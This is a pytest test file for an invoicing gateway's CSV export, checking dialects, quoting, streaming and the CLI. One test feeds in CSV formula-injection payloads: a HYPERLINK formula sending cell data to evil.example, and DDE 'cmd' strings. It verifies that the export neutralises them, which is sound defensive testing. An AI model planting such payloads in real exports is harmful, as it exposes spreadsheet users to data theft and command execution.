"""Export: the bytes a spreadsheet user receives, dialect by dialect."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from itertools import count
from pathlib import Path

import pytest

from gateway import Invoice, RenderContext, complete
from gateway.errors import ConfigError
from plugins.csv import HEADER, CsvFormat, export_many, iter_export
from tests.conftest import JSON_CUSTOMERS, add_customer

REPO = Path(__file__).resolve().parents[2]


def table(data: bytes, delimiter: str) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM so that Excel reads UTF-8"
    text = data[3:].decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))
    assert tuple(rows[0]) == HEADER
    return [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]


def test_lv_dialect_semicolons_decimal_comma_iso_dates_crlf(
        fmt: CsvFormat, examples: list[Invoice]) -> None:
    paper = examples[1]
    data = fmt.render(paper, RenderContext(language="lv"))
    assert b"\r\n" in data and data.count(b"\n") == data.count(b"\r\n")
    rows = table(data, ";")
    assert [r["row_type"] for r in rows] == ["line", "line", "line", "charge"]
    first = rows[0]
    assert first["invoice_number"] == "E2611-00124"
    assert first["issue_date"] == "2026-11-12" and first["due_date"] == "2026-11-30"
    assert first["amount_due"] == "47,40" and first["price"] == "0,1389"
    assert first["contract_reference"] == "100345678"
    assert first["payment_reference"] == "Rekins E2611-00124 ligums 100345678"
    assert first["vat_rate"] == "21" and first["line_vat_amount"] == "4,61"
    assert {r["buyer_name"] for r in rows} == {"Ilze Kalniņa"}  # repeated on every row
    charge = rows[-1]
    assert charge["item_name"] == "Papīra rēķina maksa (2,50 EUR ar PVN)"
    assert charge["line_net_amount"] == "2,07" and charge["line_id"] == ""
    net = sum(Decimal(r["line_net_amount"].replace(",", ".")) for r in rows)
    assert net == paper.require_totals().total_without_vat


def test_en_dialect_commas_decimal_point_and_quoted_text(
        fmt: CsvFormat, examples: list[Invoice]) -> None:
    data = fmt.render(examples[0], RenderContext(language="en"))
    assert b'"Sadales pakalpojums, mainiga' not in data  # sanity: the text is UTF-8 below
    assert '"Sadales pakalpojums, mainīgā daļa"'.encode() in data
    rows = table(data, ",")
    assert rows[0]["amount_due"] == examples[0].require_totals().amount_due.to_eng_string()
    assert "." in rows[0]["amount_due"] and rows[0]["price"] == "0.1389"


def test_dialect_is_a_customer_preference_defaulting_to_the_language(
        gw, examples: list[Invoice]) -> None:
    invoice = examples[0]
    assert gw.render(invoice, "csv", language="lv").content.splitlines()[0].count(b";") > 50
    assert gw.render(invoice, "csv", language="en").content.splitlines()[0].count(b",") > 50
    english = gw.render(invoice, "csv", language="lv", options={"dialect": "en"}).content
    assert english.splitlines()[0].count(b",") > 50
    with pytest.raises(ConfigError, match="unknown dialect 'de'; expected one of lv, en"):
        gw.render(invoice, "csv", language="lv", options={"dialect": "de"})


def test_gateway_wide_default_dialect_from_gateway_toml(gateway_factory,
                                                       examples: list[Invoice]) -> None:
    gw = gateway_factory(config='[plugins.csv]\ndialect = "en"\n')
    header = gw.render(examples[0], "csv", language="lv").content.splitlines()[0]
    assert header.startswith(b"\xef\xbb\xbfinvoice_number,issue_date,")
    with pytest.raises(ConfigError, match="unknown dialect 'fr'"):
        gateway_factory(config='[plugins.csv]\ndialect = "fr"\n', data_dir=gw.config.data_dir
                        / "other")


def test_pushed_invoice_is_archived_in_the_customers_dialect(gw, invoice_data) -> None:
    add_customer(gw, formats=["csv"], language="lv", format_options={"csv": {"dialect": "en"}})
    from gateway import load_invoice

    result = gw.push(load_invoice(invoice_data))
    assert result.status == "accepted", result.error
    assert result.documents == ("E2611-00123.csv",)
    record = next(d for d in gw.store.documents(result.invoice_id) if d.format == "csv")
    content = gw.archive.get(record.sha256)
    assert content.startswith(b"\xef\xbb\xbfinvoice_number,issue_date,")


@pytest.mark.parametrize("hostile", [
    '=HYPERLINK("http://evil.example/?"&A1,"Rēķins")', "+cmd|' /C calc'!A0", "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0", "'=already quoted",
])
def test_cells_that_would_run_as_formulas_are_neutralised(
        fmt: CsvFormat, examples: list[Invoice], hostile: str) -> None:
    invoice = examples[0]
    buyer = invoice.buyer.model_copy(update={"name": hostile})
    line = invoice.lines[0].model_copy(update={
        "item": invoice.lines[0].item.model_copy(update={"name": hostile})})
    evil = invoice.model_copy(update={"buyer": buyer, "lines": [line, *invoice.lines[1:]]})
    for dialect in ("lv", "en"):
        rows = table(fmt.render(evil, RenderContext(options={"dialect": dialect})),
                     ";" if dialect == "lv" else ",")
        assert rows[0]["buyer_name"] == "'" + hostile
        assert rows[0]["item_name"] == "'" + hostile
        parsed = list(fmt.parse(fmt.render(evil, RenderContext(options={"dialect": dialect})),
                                "evil.csv"))
        assert parsed == [evil], "the apostrophe is removed again on import"


def test_negative_numbers_stay_numbers_and_allowances_are_negative(
        fmt: CsvFormat, examples: list[Invoice]) -> None:
    from gateway.core import AllowanceCharge, VatCategory

    discount = AllowanceCharge(amount=Decimal("1.50"), vat_category=VatCategory.STANDARD,
                               vat_rate=Decimal("21"), reason="Lojalitātes atlaide")
    invoice = complete(examples[0].model_copy(update={"allowances": [discount],
                                                      "totals": None, "vat_breakdown": []}))
    rows = table(fmt.render(invoice, RenderContext(language="lv")), ";")
    allowance = rows[-1]
    assert allowance["row_type"] == "allowance"
    assert allowance["line_net_amount"] == "-1,50" and allowance["line_vat_amount"] == "-0,32"
    net = sum(Decimal(r["line_net_amount"].replace(",", ".")) for r in rows)
    assert net == invoice.require_totals().total_without_vat
    assert list(CsvFormat().parse(export_many([invoice]), "a.csv")) == [invoice]


def test_rfc4180_quoting_of_quotes_delimiters_and_line_breaks(
        fmt: CsvFormat, examples: list[Invoice]) -> None:
    invoice = examples[0]
    tricky = 'Ganību "dambis"; 24,7\nieeja no pagalma'
    address = invoice.buyer.address.model_copy(update={"line1": tricky})
    buyer = invoice.buyer.model_copy(update={"address": address})
    invoice = invoice.model_copy(update={"buyer": buyer})
    for dialect, sep in (("lv", ";"), ("en", ",")):
        data = fmt.render(invoice, RenderContext(options={"dialect": dialect}))
        assert b'"Gan\xc4\xabbu ""dambis""; 24,7\nieeja no pagalma"' in data
        assert table(data, sep)[0]["buyer_address_line1"] == tricky


def test_export_many_streams_in_chunks_and_consumes_lazily(examples: list[Invoice]) -> None:
    taken = count()

    def history():
        for i in range(3000):
            next(taken)
            yield examples[i % 4].model_copy(update={"number": f"H-{i:05d}"})

    chunks = iter_export(history(), "lv")
    first = next(chunks)
    assert first.startswith(b"\xef\xbb\xbfinvoice_number;")
    pulled = next(taken)
    assert pulled < 500, "the export pulls invoices as it writes, not all up front"
    rest = b"".join(chunks)
    whole = first + rest
    rows = table(whole, ";")
    assert len({r["invoice_number"] for r in rows}) == 3000
    assert whole == export_many(
        (examples[i % 4].model_copy(update={"number": f"H-{i:05d}"}) for i in range(3000)), "lv")


def test_column_specification_is_documented() -> None:
    doc = (REPO / "docs" / "csv.md").read_text(encoding="utf-8")
    missing = [name for name in HEADER if f"`{name}`" not in doc]
    assert not missing, f"docs/csv.md does not describe: {missing}"


def test_cli_exports_the_archive_streamed_and_filtered(run_cli, tmp_path: Path,
                                                       examples: list[Invoice]) -> None:
    run_cli("customer", "import", str(JSON_CUSTOMERS))
    originals = sorted(str(p) for p in (REPO / "examples").glob("*.json"))
    assert run_cli("push", "--no-deliver", *originals).exit_code == 0
    out = tmp_path / "exports" / "all.csv"
    result = run_cli("csv", "export", "-o", str(out))
    assert result.exit_code == 0, result.output
    assert f"wrote {out} (4 invoices, dialect lv)" in result.stdout
    back = list(CsvFormat().parse_file(out, str(out)))
    assert sorted(i.number for i in back) == sorted(i.number for i in examples)
    assert {i.number: i for i in back} == {i.number: i for i in examples}

    one = tmp_path / "one.csv"
    result = run_cli("csv", "export", "-o", str(one), "--customer", "200987654",
                     "--from", "2026-11-01", "--to", "2026-11-30")
    assert "(1 invoices, dialect en)" in result.stdout, "the customer's language: en"
    assert [i.number for i in CsvFormat().parse_file(one, "one.csv")] == ["E2611-00125"]
    none = run_cli("csv", "export", "-o", str(one), "--from", "2027-01-01")
    assert "(0 invoices" in none.stdout
    assert one.read_bytes().count(b"\r\n") == 1, "only the header"
    unknown = run_cli("csv", "export", "-o", str(one), "--customer", "nobody")
    assert unknown.exit_code == 1 and "unknown customer 'nobody'" in unknown.stderr
    assert not [p for p in one.parent.iterdir() if p.name.startswith(".tmp-")]
